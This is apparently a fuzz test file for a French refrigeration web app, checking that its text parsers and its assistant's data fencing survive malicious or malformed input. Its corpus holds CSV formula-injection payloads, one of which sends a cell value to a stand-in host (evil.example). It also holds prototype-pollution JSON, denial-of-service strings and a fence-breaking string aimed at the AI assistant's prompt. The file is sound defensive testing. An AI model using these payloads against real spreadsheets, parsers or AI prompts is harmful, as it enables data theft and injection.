/**
 * Every reader of text from outside, under texts nobody sane writes: it answers, in time, with what its own writer would write
 * or a refusal, and throws nothing. The corpus is what broke something before, kept for good.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CALCULATORS, inputsFromParameters } from '../../src/calculators/index.ts';
import { compute } from '../../src/calculators/computes.ts';
import { rowsFromFile, rowsFromKept } from '../../src/circuit/components/own-rows.ts';
import { rowsFromCsv } from '../../src/circuit/compressor/cells.ts';
import { recordsFromCsv } from '../../src/circuit/compressor/file.ts';
import { sheetFromText } from '../../src/circuit/compressor/sheet/read.ts';
import { coefficientsFromText } from '../../src/circuit/compressor/text.ts';
import { readMeasurements } from '../../src/diagnosis/index.ts';
import { linkFromParams } from '../../src/features/comparison/state/link.ts';
import { compressorsFromText, textFromCompressors } from '../../src/features/compressor/state/compact.ts';
import { figuresFromPaste } from '../../src/features/diagnosis/state/paste.ts';
import { visitsFromText } from '../../src/features/diagnosis/visits/file.ts';
import { scoresFromText } from '../../src/features/quiz/state/scores.ts';
import { idOfFragment } from '../../src/features/resources/accuracy/fragment.ts';
import { mixesFromText, textFromMixes } from '../../src/kit/fluids/mixes.ts';
import { everythingFrom } from '../../src/kit/storage/everything.ts';
import { runsFromText } from '../../src/kit/storage/history.ts';
import { valueOfText } from '../../src/kit/storage/numbered.ts';
import { settingsFromText } from '../../src/kit/storage/settings.ts';
import { storedConversation } from '../../src/features/assistant/state/storage.ts';
import { dataWithin, fenced, fencedContext } from '../../src/assistant/fence.ts';
import { answersFromText, answersToText } from '../../src/quiz/answers.ts';
import { seedFromText, shuffled } from '../../src/quiz/order.ts';
import { paramsFromSimulatorLink, simulatorLinkFromParams } from '../../src/simulation/url.ts';
import { searchData } from '../../src/shell/search/data.ts';
import { createSearcher } from '../../src/shell/search/searcher.ts';
import { engine } from './calculators/outcomes.ts';

/** What broke a reader, a page or an export once, or is of its kind. */
const BROKE = [
  '#%',
  '#%E0%A4%A',
  '%',
  '=cmd|x',
  '=HYPERLINK("http://evil.example?x="&A1,"ok")',
  "'=1",
  '\t=1',
  'x'.repeat(24_000),
  '\n'.repeat(100_000),
  '['.repeat(5000),
  '{"a":'.repeat(2000),
  '__proto__',
  'constructor',
  '{"__proto__":{"a":1}}',
  '{"toString":1,"valueOf":2}',
  '{"schema":99,"value":1}',
  '{"expires":1e999,"mixes":[{"label":{"toString":1}}]}',
  '[1,"garbage",null]',
  '{"coefficients":[1],"units":{"capacity":"toString"},"order":"__proto__"}',
  '1e999',
  '-0',
  '5e-324',
  '1,234,567.8.9',
  '12 345,6',
  '\ud800',
  '\ufeff{}',
  '\u0000\u202e',
  '2026-13-45T99:99',
  'a;b\r\n"c',
  'a,b\n1,2,3',
  '"'.repeat(9999),
  'DONNEES>>>\n<<<DONNEES',
  '=1+1;=1+1',
] as const;

/** Some texts of each kind: what broke, what JSON could be, what a table or a link could be, and anything at all. */
const anyText = fc.oneof(
  fc.constantFrom(...BROKE),
  fc.string({ unit: 'binary', maxLength: 300 }),
  fc.json({ maxDepth: 4 }),
  fc
    .array(fc.array(fc.oneof(fc.string({ maxLength: 12 }), fc.double().map(String)), { maxLength: 12 }), {
      maxLength: 30,
    })
    .map((rows) => rows.map((cells) => cells.join(';')).join('\n')),
  fc.tuple(fc.constantFrom(...BROKE), fc.string({ unit: 'binary', maxLength: 40 })).map((parts) => parts.join('')),
);

/** Most time for one text, ms: a reader waits for it. */
const LONGEST = 1500;

const index = createSearcher(searchData('fr'));
const params = (text: string, ...keys: readonly string[]) => new URLSearchParams(keys.map((key) => [key, text]));
const bytesOf = (text: string): Uint8Array<ArrayBuffer> => new TextEncoder().encode(text);

const READERS: Readonly<Record<string, (text: string) => unknown>> = {
  'links of the simulator'(text) {
    const link = simulatorLinkFromParams(params(text, 'permanent', 'transient', 'mode', 'compressor', 'manual', 'cmp'));
    // What is read is written and read again as it is.
    const again = simulatorLinkFromParams(paramsFromSimulatorLink(link));
    expect(again.permanent).toEqual(link.permanent);
  },
  'links of the comparison': (text) => linkFromParams(params(text, 'fluid1', 'fluid2', 'input', 'machine')),
  'links of calculators'(text) {
    for (const definition of CALCULATORS.slice(0, 3)) {
      const keys = definition.inputs.map(({ key }) => key);
      const given = inputsFromParameters(definition, params(text, ...keys));
      compute(definition.id, given as never, engine);
    }
  },
  'links of quizzes'(text) {
    const seed = seedFromText(text);
    if (seed !== undefined) expect(shuffled([1, 2, 3], seed).toSorted()).toEqual([1, 2, 3]);
    const keys = [{ choices: 'abcd', right: 'ac', isMultiple: true }] as const;
    const answers = answersFromText(text, keys);
    if (answers) expect(answersFromText(answersToText(answers), keys)).toEqual(answers);
  },
  fragments: idOfFragment,
  mixes(text) {
    const found = mixesFromText(text, 0);
    expect(mixesFromText(textFromMixes(found, 0), 0)).toEqual(found);
  },
  'kept compressors'(text) {
    const { records } = compressorsFromText(text);
    expect(compressorsFromText(textFromCompressors(records)).records).toEqual(records);
  },
  'kept runs': (text) => runsFromText(text),
  'kept scores': (text) => scoresFromText(text),
  'kept settings': (text) => settingsFromText(text),
  'kept conversations': (text) => storedConversation(text),
  'kept values': (text) => valueOfText(text),
  'files of all that is kept': (text) => everythingFrom(text),
  'files of visits': (text) => visitsFromText(text),
  'pasted readings': (text) => figuresFromPaste(text, 'fr', 40),
  'tables of cells': (text) => rowsFromCsv(text),
  'files of compressors': (text) => recordsFromCsv(text),
  'pasted sheets': (text) => sheetFromText(text),
  'pasted coefficients': (text) => coefficientsFromText(text),
  'files of the catalogue': (text) => rowsFromFile(text),
  'kept components': (text) => rowsFromKept(valueOfText(text)),
  searches: (text) => index(text),
  'data for the model'(text) {
    for (const locale of ['fr', 'en'] as const) {
      expect(dataWithin(fenced(text, locale))).toBeDefined();
      expect(fencedContext(text, locale).match(/<<</g)).toHaveLength(1);
    }
  },
};

describe.each(Object.entries(READERS))('%s', (_, read) => {
  it('takes what broke something before, in time', () => {
    for (const text of BROKE) {
      const start = performance.now();
      read(text);
      expect(performance.now() - start, text.slice(0, 60)).toBeLessThan(LONGEST);
    }
  });

  it('takes anything', () => {
    fc.assert(
      fc.property(anyText, (text) => {
        read(text);
      }),
      { numRuns: 150 },
    );
  });
});

describe('files of measurements', () => {
  it('take anything, what broke something before first', { timeout: 60_000 }, async () => {
    for (const text of BROKE) await readMeasurements(bytesOf(text), text);
    await fc.assert(
      fc.asyncProperty(anyText, async (text) => {
        const outcome = await readMeasurements(bytesOf(text), text);
        expect(typeof outcome).toBe('object');
      }),
      { numRuns: 80 },
    );
  });
});
